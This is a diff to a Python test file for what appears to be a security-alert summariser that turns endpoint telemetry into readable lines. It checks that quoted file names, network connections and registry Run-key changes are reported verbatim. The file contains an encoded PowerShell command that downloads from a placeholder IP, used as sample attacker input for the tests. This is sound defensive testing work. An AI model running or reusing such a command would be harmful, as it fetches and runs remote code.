@@ -6,6 +6,7 @@ from hypothesis import strategies as st
 
 from shared.core.conclude import NO_RULES, conclude
 from shared.core.conclude.story import MAX_LINE, MAX_LINES
+from shared.core.tables import whatever_it_names
 from tests.builders import alert, finding, key, node, tied
 
 ENCODED = "powershell.exe -enc " + base64.b64encode("iwr http://203.0.113.10/a".encode("utf-16-le")).decode()
@@ -65,3 +66,47 @@ def test_a_huge_tree_stays_within_its_column_and_says_what_it_left_out() -> None
     assert len(tree) < 31_000
     assert entries[0]["name"] == "evil.exe"
     assert entries[-1]["left_out"] == 501 - (len(entries) - 1)
+
+
+NAME = "svc_Update'1.exe"
+FOLDER = "C:\\Users\\o'brien\\a \\\\b\\"
+
+
+def test_what_a_line_names_can_be_copied_as_it_is() -> None:
+    command = f'"{FOLDER}{NAME}"  -x \\\\srv\\share "a  b" C:\\\\t'
+    address, url = "2001:db8::80", "http://203.0.113.45/a.png"
+    events = (
+        tied(
+            "DeviceNetworkEvents", "ConnectionSuccess", RemoteIP="203.0.113.45", RemotePort=80, RemoteUrl=url
+        ),
+        tied("DeviceNetworkEvents", "ConnectionSuccess", number=2, RemoteIP=address, RemotePort=443),
+        tied("DeviceFileEvents", "FileCreated", number=3, FolderPath=FOLDER + NAME, FileName=NAME),
+        tied(
+            "DeviceRegistryEvents",
+            "RegistryValueSet",
+            number=4,
+            RegistryKey="HKLM\\Soft\\Run",
+            RegistryValueName=NAME,
+        ),
+        tied("DeviceImageLoadEvents", "ImageLoaded", number=5, FileName=NAME),
+        tied("DeviceEvents", "OpenProcessApiCall", number=6, FileName=NAME),
+    )
+    found = finding(nodes=(node(NAME, command),), events=events)
+    lines = conclude(alert(), None, found, NO_RULES).story.splitlines()
+    told = {line[9:] for line in lines}
+    assert f"{NAME} started as alice (the alert's process): {command}" in told
+    assert f"{NAME} connected to {url} port 80" in told
+    assert f"{NAME} connected to {address} port 443" in told
+    assert f"{NAME} created files in {FOLDER}" in told
+    assert f"{NAME} changed HKLM\\Soft\\Run {NAME}" in told
+    assert f"{NAME} loaded {NAME}" in told
+    assert f"{NAME} caused OpenProcessApiCall on {NAME}" in told
+
+
+def test_what_an_event_was_done_to_can_be_copied_as_it_is() -> None:
+    for row, said in (
+        ({"RemoteIP": "2001:db8::80", "RemotePort": 443}, "2001:db8::80 port 443"),
+        ({"RemoteUrl": "http://203.0.113.45/a.png", "RemotePort": 80}, "http://203.0.113.45/a.png port 80"),
+        ({"FolderPath": FOLDER + NAME}, FOLDER + NAME),
+    ):
+        assert whatever_it_names(row)[1] == said
